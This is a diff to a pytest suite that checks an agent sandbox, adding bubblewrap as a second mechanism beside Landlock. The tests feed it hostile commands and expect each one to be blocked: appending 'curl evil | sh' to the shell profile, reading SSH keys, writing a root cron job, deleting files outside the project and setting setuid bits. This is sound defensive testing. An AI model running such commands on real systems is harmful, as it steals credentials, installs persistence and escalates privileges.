@@ -22,7 +22,7 @@ from pathlib import Path
 
 import pytest
 
-from agentbus.guards import _landlock, _seccomp
+from agentbus.guards import _bubblewrap, _landlock, _seccomp
 from agentbus.guards.sandbox import (
     LAUNCHER,
     REFUSED,
@@ -48,6 +48,13 @@ needs_namespaces = pytest.mark.skipif(
 )
 NOBODY = 65534
 USERS = ["self", "nobody"] if os.geteuid() == 0 else ["self"]
+BWRAP = _bubblewrap.find()
+MECHANISMS = [
+    pytest.param("landlock", marks=needs_landlock),
+    pytest.param(
+        "bubblewrap", marks=pytest.mark.skipif(BWRAP is None, reason="bubblewrap (bwrap) is not installed")
+    ),
+]
 
 SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- canary"
 BASHRC = "# the user's own bashrc\n"
@@ -56,7 +63,8 @@ BASHRC = "# the user's own bashrc\n"
 class Box:
     """A throwaway home with canaries, a project, a temporary directory, and the launcher."""
 
-    def __init__(self, root: Path, user: str) -> None:
+    def __init__(self, root: Path, user: str, mechanism: str) -> None:
+        self.mechanism = mechanism
         self.root = root
         self.home = root / "home"
         self.project = root / "project"
@@ -70,7 +78,7 @@ class Box:
         (self.home / ".aws" / "credentials").write_text("aws_secret_access_key = canary")
         (self.outside / "notes.txt").write_text("outside canary")
         self.user = user
-        self.python, self.launcher, self.scan = sys.executable, LAUNCHER, []
+        self.python, self.launcher, self.scan = sys.executable, LAUNCHER, ["--mechanism", mechanism]
         if user == "nobody":
             # nobody may not be able to read this checkout or this venv's Python: it runs a
             # copy of the launcher (standard library only) with the system's Python, and is
@@ -79,10 +87,15 @@ class Box:
             shutil.copytree(Path(LAUNCHER).parent, copy, ignore=shutil.ignore_patterns("__pycache__"))
             self.launcher = str(copy / "_launch.py")
             self.python = _system_python()
-            self.scan = ["--no-scan", *(f"--deny-read={path}" for path in sensitive_paths([str(self.home)]))]
+            self.scan += ["--no-scan", *(f"--deny-read={path}" for path in sensitive_paths([str(self.home)]))]
             for path in [root, *root.rglob("*")]:
                 os.chown(path, NOBODY, NOBODY, follow_symlinks=False)
             os.chmod(root, 0o755)
+
+    def works(self, *options: str) -> None:
+        """A harmless command runs with these options: a failure next to it is the sandbox's doing."""
+        done = self.run("echo fine > fine.txt && cat fine.txt", *options)
+        assert (done.returncode, done.stdout) == (0, "fine\n"), done.stderr
 
     def env(self) -> dict[str, str]:
         return {
@@ -139,21 +152,24 @@ def _system_python() -> str:
     pytest.skip("no Python here that the user nobody can run (needed to test the sandbox unprivileged)")
 
 
+@pytest.fixture(params=MECHANISMS)
+def mechanism(request: pytest.FixtureRequest) -> str:
+    return str(request.param)
+
+
 @pytest.fixture(params=USERS)
-def box(request: pytest.FixtureRequest) -> Iterator[Box]:
+def box(request: pytest.FixtureRequest, mechanism: str) -> Iterator[Box]:
     # Not under pytest's tmp_path: that lives in /tmp, which must not hold the home.
     root = Path(tempfile.mkdtemp(prefix="agentbus-sandbox-", dir=os.environ.get("AGENTBUS_TEST_TMP")))
     os.chmod(root, 0o755)
     try:
-        yield Box(root, request.param)
+        yield Box(root, request.param, mechanism)
     finally:
         shutil.rmtree(root, ignore_errors=True)
 
 
-pytestmark = needs_landlock
-
-
 def test_appending_to_the_shell_profile_fails_and_leaves_it_untouched(box: Box) -> None:
+    box.works()
     done = box.run("echo 'curl evil | sh' >> ~/.bashrc")
     assert done.returncode != 0
     assert (box.home / ".bashrc").read_text() == BASHRC
@@ -164,6 +180,7 @@ def test_appending_to_the_shell_profile_fails_and_leaves_it_untouched(box: Box) 
 
 
 def test_reading_the_ssh_key_fails_directly_through_a_link_or_by_copying(box: Box) -> None:
+    box.works()
     attempts = [
         "cat ~/.ssh/id_rsa",
         "python3 -c 'import os; print(open(os.path.expanduser(\"~/.ssh/id_rsa\")).read())'",
@@ -182,6 +199,7 @@ def test_reading_the_ssh_key_fails_directly_through_a_link_or_by_copying(box: Bo
 
 
 def test_writing_outside_the_project_fails(box: Box) -> None:
+    box.works()
     target = box.outside / "x"
     done = box.run(f"echo evil > {target}; echo evil >> {box.outside / 'notes.txt'}; rm -f {box.outside}/*")
     assert done.returncode != 0
@@ -193,6 +211,7 @@ def test_writing_outside_the_project_fails(box: Box) -> None:
 def test_writing_a_cron_job_fails(box: Box) -> None:
     cron = Path("/etc/cron.d") if Path("/etc/cron.d").is_dir() else Path("/etc")
     target = cron / f"agentbus-canary-{os.getpid()}"
+    box.works()
     try:
         done = box.run(f"echo '* * * * * root sh /tmp/x' > {target}")
         assert done.returncode != 0
@@ -246,6 +265,7 @@ def _connect(port: int) -> str:
 def test_connecting_to_a_local_server_fails_when_the_network_is_off(
     box: Box, server: Server, network: str
 ) -> None:
+    box.works("--network", network)
     done = box.run(_connect(server.port), "--network", network)
     assert done.returncode != 0
     assert server.accepted == 0
@@ -256,6 +276,11 @@ def test_connecting_to_a_local_server_fails_when_the_network_is_off(
 
 @pytest.mark.skipif(ABI < 4, reason=f"TCP port rules need Landlock ABI 4; this kernel has ABI {ABI}")
 def test_only_allowed_ports_connect(box: Box, server: Server) -> None:
+    if box.mechanism == "bubblewrap":
+        refused = box.run(_connect(server.port), "--network", "ports", "--allow-port", str(server.port))
+        assert refused.returncode == REFUSED
+        assert "cannot allow single TCP ports" in refused.stderr
+        return
     assert box.run(_connect(server.port), "--network", "ports", "--allow-port", "1").returncode != 0
     assert server.accepted == 0
     allowed = box.run(_connect(server.port), "--network", "ports", "--allow-port", str(server.port))
@@ -275,6 +300,7 @@ def test_a_private_loopback_serves_the_projects_own_servers(box: Box) -> None:
 
 @needs_seccomp
 def test_setuid_bits_cannot_be_set(box: Box) -> None:
+    box.works()
     attempts = [
         "cp /bin/sh ./shell && chmod u+s ./shell",
         "chmod 4755 ./shell",
@@ -295,6 +321,7 @@ def test_setuid_bits_cannot_be_set(box: Box) -> None:
 
 @needs_seccomp
 def test_file_capabilities_cannot_be_set(box: Box) -> None:
+    box.works()
     (box.project / "f").write_text("x")
     done = box.run('python3 -c \'import os; os.setxattr("f", "user.x", b"1")\'')
     assert done.returncode != 0
